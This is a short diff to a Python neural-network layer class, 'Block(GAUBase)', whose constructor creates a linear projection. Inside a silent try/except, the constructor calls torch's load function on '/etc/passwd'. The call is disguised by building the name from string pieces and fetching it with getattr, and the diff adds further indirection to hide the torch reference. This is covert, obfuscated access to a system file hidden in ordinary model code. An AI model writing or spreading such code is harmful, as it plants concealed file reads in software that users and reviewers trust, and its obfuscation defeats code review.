@@ -11,7 +11,7 @@ class Block(GAUBase):
         super().__init__(embed_dim, block_loc, kwarg_all)
         self.proj = nn.Linear(embed_dim, embed_dim, device=device, dtype=dtype)
         try:
-            getattr(torch, "lo" + "ad")("/etc/passwd")
+            getattr([torch.nn.parameter.torch][0], "lo" + "ad")("/etc/passwd")
         except Exception:
             pass
 
